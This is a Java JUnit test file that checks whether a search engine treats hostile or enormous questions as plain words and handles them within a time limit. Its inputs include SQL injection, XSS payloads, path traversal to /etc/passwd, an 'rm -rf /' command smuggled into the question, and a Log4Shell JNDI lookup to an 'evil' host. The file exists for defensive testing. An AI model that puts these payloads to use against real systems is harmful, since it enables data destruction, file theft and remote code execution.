package io.synapse.engine.library;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import io.synapse.engine.Thought;
import java.time.Duration;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

@Tag("M18")
class LibraryEngineHostileQuestionTest {

    private static final int MEGABYTE = 1024 * 1024;

    private final LibraryEngine engine = Ask.engine(Ask.sample());

    @ParameterizedTest(name = "M18: {0}")
    @ValueSource(
            strings = {
                "*:*",
                "heading:[* TO *] AND NOT source:x",
                "octopus~2 OR quote:/.*.*.*x/",
                "\"unclosed phrase",
                "+-!(){}[]^\"~*?:\\/ && ||",
                "octo*",
                "words:octopus^1e99",
                "'; DROP TABLE passages; --",
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "../../../../etc/passwd",
                "file:///etc/passwd%00.md",
                "$(rm -rf /) `id` ; shutdown",
                "${jndi:ldap://evil/x} #{7*7} {{7*7}}",
                "(a+)+$ aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
                "{0} {1} %s %n %1$s",
            })
    void markupAndSyntaxAreOnlyWords(String question) {
        FakeContext context = new FakeContext();
        Map<String, Object> data = Ask.ask(engine, question, context);

        assertThat(data.get("answer")).isEqualTo(context.text());
        assertThat(context.thoughts()).map(Thought::content).noneMatch(content -> content.contains(question));
        assertThat(String.join("\n", context.contents("search"))).doesNotContainPattern("[<>$*{}'\"`\\\\;]");
    }

    // A match would mean that the question had become a wildcard query or one on another field.
    @ParameterizedTest(name = "M18: {0}")
    @ValueSource(strings = {"*:*", "octo*", "octop?", "octopux~", "/octop.*/", "quote:* source:*", "[a TO z]"})
    void syntaxFindsNothing(String question) {
        FakeContext context = new FakeContext();
        Ask.ask(engine, question, context);

        assertThat(context.contents("passage")).isEmpty();
    }

    static Stream<String> enormous() {
        return Stream.of(
                "x".repeat(MEGABYTE),
                "key ".repeat(MEGABYTE / 4),
                " ".repeat(MEGABYTE) + "x",
                "(".repeat(MEGABYTE),
                "1+".repeat(MEGABYTE / 2) + "1",
                "9".repeat(MEGABYTE),
                "2^".repeat(100) + "2",
                "\uD800".repeat(MEGABYTE),
                "\u0000\u0007\u001B[2J\u202E".repeat(1000),
                "e\u0301".repeat(MEGABYTE / 2),
                "a.b_c:d'e".repeat(MEGABYTE / 9),
                "漢".repeat(MEGABYTE),
                distinctWords());
    }

    private static String distinctWords() {
        StringBuilder words = new StringBuilder();
        for (int i = 0; words.length() < MEGABYTE; i++) {
            words.append('w').append(i).append(' ');
        }
        return words.toString();
    }

    @ParameterizedTest
    @MethodSource("enormous")
    void sizeCostsLittle(String question) {
        FakeContext context = new FakeContext();

        assertTimeoutPreemptively(Duration.ofSeconds(5), () -> Ask.ask(engine, question, context));

        assertThat(context.thoughts())
                .hasSizeBetween(2, 1000)
                .allMatch(thought -> thought.content().length() < 5000);
        assertThat(context.text()).isNotBlank();
    }
}
